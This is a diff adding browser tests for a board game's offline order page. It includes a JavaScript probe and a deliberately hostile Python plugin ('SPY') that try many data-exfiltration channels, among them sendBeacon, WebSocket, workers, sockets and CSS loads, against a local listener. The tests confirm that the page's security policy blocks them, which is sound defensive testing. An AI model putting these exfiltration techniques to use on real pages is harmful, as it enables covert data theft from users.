@@ -1,0 +1,234 @@
+"""The order page of a site in a real browser: the rules run in it, and nothing of what it is used for leaves it."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+from email.message import EmailMessage
+from pathlib import Path
+from string import Template
+from typing import TYPE_CHECKING
+
+import pytest
+
+from rattus_pbem.page.order_site import write_order_page
+from tests.page.view_files import first_question, view_file
+
+from .live_page import PYODIDE, Listening, LivePlayer, Served, make_site, playing
+from .test_order_page import browser
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser
+
+__all__ = ["browser"]
+pytestmark = pytest.mark.full
+PHONE = {"width": 390, "height": 844}
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    return make_site(tmp_path_factory.mktemp("live") / "site")
+
+
+@pytest.fixture(scope="module")
+def served(site: Path) -> Iterator[Served]:
+    with Served(site) as served:
+        yield served
+
+
+@pytest.fixture(scope="module")
+def player(browser: Browser, served: Served) -> Iterator[LivePlayer]:
+    """On a phone with French as its language; the rules are loaded once for all tests."""
+    with playing(browser, served.address, viewport=PHONE, locale="fr-FR") as player:
+        assert player.page.title() == "Écrire vos ordres"
+        yield player
+        assert player.complaints == []
+    assert served.paths == ["/order/"]
+
+
+def test_the_form_is_the_true_one_after_each_line(player: LivePlayer) -> None:
+    player.open("peste-red.view.json", view_file())
+    assert player.said() == "peste-red.view.json is open."
+    lines = ["take King", "take Monk", "plague to gallia spread anglia hispania"]
+    for line in lines:
+        assert player.page.locator("#choose").is_visible()
+        player.page.locator("#own").fill(line)
+        player.page.locator("#write button").click()
+        player.settle()
+    assert not player.page.locator("#choose").is_visible()
+    assert player.block() == "\n".join(["BEGIN ORDERS peste red turn 7 code KX4P-9QDM", *lines, "END ORDERS\n"])
+    assert player.verdicts()[0] == player.verdicts()[2] == ""
+    assert "R-" in player.verdicts()[1]
+    assert "You take the King" in player.page.locator("#preview-lines").inner_text()
+    assert "You lose cubes in Gallia" in player.odds()
+    assert player.page.evaluate("document.documentElement.scrollWidth") <= PHONE["width"]
+
+
+def test_a_line_is_tried_while_it_is_typed(player: LivePlayer) -> None:
+    player.open("peste-red.view.json", view_file(lang="fr"))
+    said = player.page.locator("#own-said")
+    player.page.locator("#own").press_sequentially("prendre Roi")
+    said.filter(has_text="Cette ligne est réalisable.").wait_for()
+    player.page.locator("#preview-lines").filter(has_text="Vous prenez la carte Roi").wait_for()
+    player.page.locator("#own").fill("prendre Evêque de Rome")
+    said.filter(has_text="n’est pas réalisable").wait_for()
+    assert player.page.locator("#lines li").count() == 0
+    assert player.page.evaluate("document.documentElement.lang") == "fr"
+
+
+def test_a_saved_mail_is_opened_and_what_is_no_view_is_refused(player: LivePlayer) -> None:
+    mail = EmailMessage()
+    mail["Subject"] = "peste"
+    mail.set_content("your turn")
+    mail.add_attachment(view_file(), "application", "json", filename="peste-red-t7-1.view.json")
+    player.open("godstorm.view.json", view_file(first_question("godstorm"), lang="fr"))
+    assert player.said() == "godstorm.view.json est ouvert."
+    assert player.add_any()
+    assert player.verdicts() == [""]
+    for name, raw, reason in (
+        ("empty.eml", b"\n", "il est vide"),
+        ("photo.jpg", b"\xff\xd8" * 2000, "aucun fichier de vue"),
+        ("changed.view.json", view_file().replace(b"Red", b"Rod"), "modifié en chemin"),
+    ):
+        player.open(name, raw)
+        assert reason in player.said()
+        assert player.page.locator("#lines li").count() == 1  # what was open stays so
+    player.open("letter.eml", mail.as_bytes())
+    assert player.said() == "letter.eml is open."  # the view is in English
+    assert player.page.locator("#lines li").count() == 0
+
+
+# --- no way out
+
+OF_PAGE = """async ([there, own]) => {
+  const violated = [];
+  addEventListener("securitypolicyviolation", (event) => violated.push(event.effectiveDirective));
+  const add = (tag, facts) => document.body.appendChild(Object.assign(document.createElement(tag), facts));
+  const ways = [
+    () => fetch(there).catch(() => {}),
+    () => fetch(own).catch(() => {}),
+    () => { const asked = new XMLHttpRequest(); asked.open("GET", there); asked.send(); },
+    () => new WebSocket(there.replace("http", "ws")),
+    () => new EventSource(there),
+    () => navigator.sendBeacon(there, "secret"),
+    () => { new Image().src = there; },
+    () => import(there + "/x.js").catch(() => {}),
+    () => import(own + "/x.js").catch(() => {}),
+    () => new Worker(own + "/x.js"),
+    () => new WebTransport(there.replace("http", "https")).ready.catch(() => {}),
+    () => navigator.serviceWorker.register(own + "/x.js").catch(() => {}),
+    () => add("script", { src: there }),
+    () => add("script", { src: own }),
+    () => add("link", { rel: "stylesheet", href: there }),
+    () => add("link", { rel: "prefetch", href: there }),
+    () => add("link", { rel: "manifest", href: there }),
+    () => add("iframe", { src: there }),
+    () => add("object", { data: there }),
+    () => add("video", { src: there }),
+    () => add("style", { textContent: `@font-face{font-family:x;src:url(${there})}p{font-family:x}` }),
+    () => add("style", { textContent: `p{background:url(${there})}` }),
+    () => add("style", { textContent: `@import url(${there});` }),
+    () => add("form", { action: there, method: "post" }).submit(),
+  ];
+  for (const way of ways) {
+    try { await way(); } catch (error) { violated.push(String(error)); }
+  }
+  await new Promise((resolve) => setTimeout(resolve, 500));
+  return [ways.length, violated];
+}"""
+"""Whatever a script of the page could do, were it not ours."""
+
+SPY = Template("""
+'A game as bad as can be: its code runs in the worker of the page, and tries each way out.'
+import js, json, socket, urllib.request
+from pyodide.ffi import to_js
+
+THERE, OWN = "$there", "$own"
+FROM_BLOB = '''
+const outcome = {};
+const attempt = (name, way) => {
+  try { way(); outcome[name] = "tried"; } catch (error) { outcome[name] = String(error); }
+};
+attempt("fetch", () => fetch("$there").catch(() => {}));
+attempt("scripts", () => importScripts("$there"));
+attempt("own scripts", () => importScripts("$own/x.js"));
+attempt("import", () => import("$there/x.js").catch(() => {}));
+attempt("own import", () => import("$own/x.js").catch(() => {}));
+new BroadcastChannel("spy").postMessage(JSON.stringify(outcome));
+'''
+
+def asked():
+    request = js.XMLHttpRequest.new()
+    request.open("GET", THERE, False)
+    request.send()
+
+def rules(custom):
+    outcome = {}
+    blob = js.URL.createObjectURL(js.Blob.new(to_js([FROM_BLOB])))
+    for name, way in {
+        "fetch": lambda: js.fetch(THERE),
+        "own": lambda: js.fetch(OWN),
+        "xhr": asked,
+        "socket": lambda: js.WebSocket.new(THERE.replace("http", "ws")),
+        "events": lambda: js.EventSource.new(THERE),
+        "transport": lambda: js.WebTransport.new(THERE.replace("http", "https")),
+        "worker": lambda: js.Worker.new(THERE),
+        "blob": lambda: js.Worker.new(blob),
+        "python": lambda: socket.create_connection(THERE.removeprefix("http://").split(":"), 1),
+        "urllib": lambda: urllib.request.urlopen(THERE, timeout=1),
+    }.items():
+        try:
+            way()
+            outcome[name] = "tried"
+        except BaseException as error:
+            outcome[name] = str(error)
+    js.BroadcastChannel.new("spy").postMessage(json.dumps(outcome))
+    raise ValueError("done")
+""")
+HEAR_SPY = """() => {
+  window.heard = [];
+  const channel = new BroadcastChannel("spy");
+  channel.onmessage = ({ data }) => window.heard.push(JSON.parse(data));
+  window.channel = channel;
+}"""
+
+
+def test_no_script_of_the_page_could_open_a_connection(browser: Browser, site: Path) -> None:
+    with Served(site) as served, Listening() as listening, playing(browser, served.address) as player:
+        ways, violated = player.page.evaluate(OF_PAGE, [listening.address, served.address])
+        assert len(violated) >= ways - 2  # to register a service worker, or a transport, fails without a violation
+        assert served.paths == ["/order/"]
+    assert listening.received == []
+
+
+def test_no_code_in_the_worker_could_open_a_connection(
+    browser: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    site, package = tmp_path / "site", tmp_path / "packages" / "spy"
+    with Served(site) as served, Listening() as listening:
+        package.mkdir(parents=True)
+        (package / "__init__.py").write_text(SPY.substitute(there=listening.address, own=served.address))
+        entry_points = package.with_name("spy-1.dist-info") / "entry_points.txt"
+        entry_points.parent.mkdir()
+        entry_points.write_text("[rattus_pbem.games]\nspy = spy\n")
+        entry_points.with_name("METADATA").write_text("Metadata-Version: 2.1\nName: spy\nVersion: 1\n")
+        monkeypatch.syspath_prepend(package.parent)
+        make_site(site)
+        with playing(browser, served.address) as player:
+            player.page.evaluate(HEAR_SPY)
+            player.open("spy.view.json", view_file(rules="spy"))
+            assert "does not hold together" in player.said()
+            player.page.wait_for_function("() => window.heard.length === 2")
+            tried = player.page.evaluate("() => Object.assign({}, ...window.heard)")
+            player.open("peste-red.view.json", view_file())  # and time enough for whatever was tried
+        assert set(tried) == {
+            *("fetch", "own", "xhr", "socket", "events", "transport", "worker", "blob", "python", "urllib"),
+            *("scripts", "own scripts", "import", "own import"),
+        }
+        assert tried["blob"] == "tried"
+        assert served.paths == ["/order/"]
+        assert listening.received == []
+
+
+def test_the_same_packages_give_the_same_page(site: Path, tmp_path: Path) -> None:
+    write_order_page(tmp_path, PYODIDE)
+    assert (tmp_path / "order" / "index.html").read_bytes() == (site / "order" / "index.html").read_bytes()
